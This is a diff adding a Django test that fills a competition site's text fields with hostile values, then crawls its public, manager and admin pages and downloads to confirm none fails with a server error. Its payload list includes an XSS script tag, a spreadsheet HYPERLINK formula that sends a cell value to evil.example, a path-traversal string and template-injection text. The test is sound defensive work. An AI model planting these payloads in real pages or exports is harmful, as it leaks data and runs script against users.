@@ -1,0 +1,243 @@
+"""Any stored value displays safely everywhere: hostile-but-legitimate values in every text field
+of every model, then every public, manager and admin page (and download) is fetched: no 500.
+
+The data: the circuit file with awkward names and labels, a season of every other system built
+through the ORM, then every free-text field of every row of every competition model overwritten
+with one of the values below. The crawl follows the links of the pages themselves, so a system's
+pages are covered as soon as they are linked."""
+
+import copy
+import re
+from collections import deque
+from decimal import Decimal
+from html import unescape
+from urllib.parse import urljoin, urlsplit
+
+import pytest
+from django.apps import apps
+from django.contrib import admin
+from django.core.management import call_command
+from django.db import models
+from django.test import Client
+from django.urls import reverse
+
+from competitions.interchange import import_competition
+from competitions.models import (
+    Game,
+    Group,
+    Player,
+    Round,
+    RoundEntry,
+    Season,
+    SeasonPlayer,
+    Series,
+    Tournament,
+)
+
+pytestmark = pytest.mark.django_db
+
+HOSTILE = [
+    "Ticket to Ride / Europe",
+    "2026/27",
+    "a?b#c%d&e=f+g",
+    "\"quoted\" and 'single'",
+    "<script>alert('x')</script><b>bold</b>",
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "@SUM(1+1)",
+    "Ελληνικά ονόματα",
+    "中文名字",
+    "e\u0301le\u0300ve o\u0308",  # combining accents
+    "\u202eevil\u202c right-to-left",
+    "../../etc/passwd",
+    "  spaced   out  ",
+    "{{ 7|add:7 }} {% now 'Y' %}",
+    "x" * 200,
+]
+# Fields that are not free text: ids and slugs (validated), choices, and what the systems read.
+NOT_FREE_TEXT = {"key", "slug", "label", "system", "status", "colour", "result", "scale"}
+MAX_PAGES = 500
+
+
+def hostile(n: int, length: int) -> str:
+    return HOSTILE[n % len(HOSTILE)][:length]
+
+
+def hostile_circuit(circuit_file) -> dict:
+    data = copy.deepcopy(circuit_file)
+    data["season"] = "2026/27"
+    data["name"] = HOSTILE[4]
+    for n, club in enumerate(data["clubs"]):
+        club["name"] = hostile(n + 3, 200)
+    for n, player in enumerate(data["players"]):
+        player["name"] = hostile(n, 200)
+    games = [HOSTILE[0], HOSTILE[5], HOSTILE[8], HOSTILE[3], "///"]
+    n = 0
+    for t in data["tournaments"]:
+        t["name"] = hostile(n + 6, 200)
+        for round_ in t["rounds"]:
+            for table in round_["tables"]:
+                table["game"] = games[n % len(games)]
+                n += 1
+    return data
+
+
+def other_systems() -> None:
+    """A season of each system besides the circuit, with a row of every model it uses."""
+    for system in ("othello-gp", "chess-bgp", "keizer", "bridge-ladder"):
+        series = Series.objects.create(slug=f"s-{system}", name=HOSTILE[4], system=system)
+        season = Season.objects.create(series=series, label="2025/26 #1?", name=HOSTILE[5])
+        players = [
+            Player.objects.create(series=series, key=f"p{n}", name=hostile(n, 200))
+            for n in range(4)
+        ]
+        for n, player in enumerate(players):
+            SeasonPlayer.objects.create(season=season, player=player, position=n)
+        tournament = Tournament.objects.create(season=season, key="t.1", name=HOSTILE[6])
+        group = Group.objects.create(tournament=tournament, name=HOSTILE[0])
+        round_ = Round.objects.create(season=season, tournament=tournament, group=group, number=1)
+        game = Game.objects.create(round=round_, result="1-0")
+        for player, colour in zip(players, ("white", "black"), strict=False):
+            RoundEntry.objects.create(
+                round=round_, player=player, status="played", game=game, colour=colour
+            )
+        RoundEntry.objects.create(round=round_, player=players[2], status="bye")
+        season_round = Round.objects.create(season=season, number=1)
+        _system_rows(system, tournament, group, season_round, players)
+
+
+def _system_rows(system, tournament, group, round_, players) -> None:
+    if system == "othello-gp":
+        placement = apps.get_model("competitions", "Placement")
+        for n, player in enumerate(players, 1):
+            placement.objects.create(
+                tournament=tournament, player=player, place=n, country="SE", nordic=Decimal(1500)
+            )
+    elif system == "chess-bgp":
+        member = apps.get_model("competitions", "GroupPlayer")
+        for n, player in enumerate(players):
+            member.objects.create(group=group, player=player, position=n, player_class=HOSTILE[n])
+    elif system == "bridge-ladder":
+        pool = apps.get_model("competitions", "Pool").objects.create(round=round_, number=1)
+        challenge = apps.get_model("competitions", "Challenge").objects.create(
+            round=round_, number=1
+        )
+        for n, player in enumerate(players):
+            apps.get_model("competitions", "PoolMember").objects.create(
+                pool=pool, player=player, position=n, reason=HOSTILE[n]
+            )
+            apps.get_model("competitions", "ChallengeScore").objects.create(
+                challenge=challenge, player=player, imps=Decimal(n) - Decimal("1.5")
+            )
+
+
+def overwrite_free_text() -> None:
+    """Every free-text field of every row of every competition model gets a hostile value."""
+    for model in apps.get_app_config("competitions").get_models():
+        if model.__name__.startswith("Historical"):
+            continue
+        fields = [
+            f
+            for f in model._meta.concrete_fields
+            if isinstance(f, models.CharField | models.TextField)
+            and not f.choices
+            and f.name not in NOT_FREE_TEXT
+            and f.editable
+            and not (model is Season and f.name == "recompute_error")
+        ]
+        for n, pk in enumerate(model.objects.values_list("pk", flat=True)):
+            values = {f.name: hostile(n + i, f.max_length or 300) for i, f in enumerate(fields)}
+            if model.__name__ == "Table":
+                values["game"] = values["game"].strip() or "x"
+            if values:
+                model.objects.filter(pk=pk).update(**values)
+
+
+@pytest.fixture
+def hostile_data(circuit_file, django_user_model):
+    import_competition(hostile_circuit(circuit_file))
+    later = hostile_circuit(circuit_file)
+    later["season"] = "Été 2027/28 ?#"
+    import_competition(later)
+    other_systems()
+    overwrite_free_text()
+    call_command("recompute", stdout=open("/dev/null", "w"))  # noqa: SIM115
+    manager = django_user_model.objects.create_user("manager", password="pw-manager-123")
+    for series in Series.objects.all():
+        series.managers.add(manager)
+    return manager
+
+
+LINK = re.compile(r"""(?:href|action)=["']([^"'#]+)""")
+SKIP = ("/accounts/logout", "/i18n/", "/admin/logout", "/static/", "/admin/jsi18n")
+
+
+def crawl(client: Client, starts: list[str], within: tuple[str, ...]) -> dict[str, int]:
+    """Fetch every same-site page reachable from `starts` (GET only), up to MAX_PAGES."""
+    seen: dict[str, int] = {}
+    queue = deque(starts)
+    while queue and len(seen) < MAX_PAGES:
+        url = queue.popleft()
+        if url in seen:
+            continue
+        response = client.get(url)
+        seen[url] = response.status_code
+        if response.status_code in (301, 302):
+            queue.append(urljoin(url, response["Location"]))
+            continue
+        if response.status_code != 200 or "html" not in response.get("Content-Type", ""):
+            continue
+        for href in LINK.findall(response.content.decode("utf-8", "replace")):
+            target = urljoin(url, unescape(href))
+            parts = urlsplit(target)
+            if parts.netloc and parts.netloc != "testserver":
+                continue
+            path = parts.path + (f"?{parts.query}" if "_export" in parts.query else "")
+            if path.startswith(within) and not path.startswith(SKIP) and path not in seen:
+                queue.append(path)
+    return seen
+
+
+def assert_no_server_errors(seen: dict[str, int]) -> None:
+    errors = {url: status for url, status in seen.items() if status >= 500}
+    assert errors == {}, errors
+
+
+def test_every_public_page_and_download_shows_hostile_values(client, hostile_data):
+    seen = crawl(client, ["/", "/help/"], ("/",))
+    assert_no_server_errors(seen)
+    # The crawl reached the seasons, tournaments, game pages, players and downloads.
+    assert any("/2026-27/tournaments/" in url for url in seen)
+    assert any("/games/" in url for url in seen)
+    assert any("/players/" in url for url in seen)
+    assert any("_export=xlsx" in url for url in seen)
+    for season in Season.objects.select_related("series"):
+        for fmt in ("json", "zip"):
+            url = reverse("standings_download", args=[season.series.slug, season.slug, fmt])
+            assert client.get(url).status_code in (200, 404), url
+
+
+def test_every_manager_page_shows_hostile_values(client, hostile_data):
+    client.force_login(hostile_data)
+    seen = crawl(client, ["/manage/"], ("/manage/",))
+    assert_no_server_errors(seen)
+    assert any("/rounds/" in url for url in seen)
+    assert any(url.endswith("/settings/") for url in seen)
+
+
+def test_every_admin_page_shows_hostile_values(admin_client, hostile_data):
+    urls = ["/admin/"]
+    for model in admin.site._registry:
+        name = f"admin:{model._meta.app_label}_{model._meta.model_name}"
+        urls += [
+            reverse(f"{name}_changelist"),
+            reverse(f"{name}_changelist") + "?q=%3Cscript%3E%2F%3D",
+            reverse(f"{name}_add"),
+        ]
+        for pk in model._default_manager.values_list("pk", flat=True)[:3]:
+            urls += [
+                reverse(f"{name}_change", args=[pk]),
+                reverse(f"{name}_history", args=[pk]),
+            ]
+    seen = {url: admin_client.get(url).status_code for url in urls}
+    assert_no_server_errors(seen)
+    assert sum(1 for status in seen.values() if status == 200) > 100
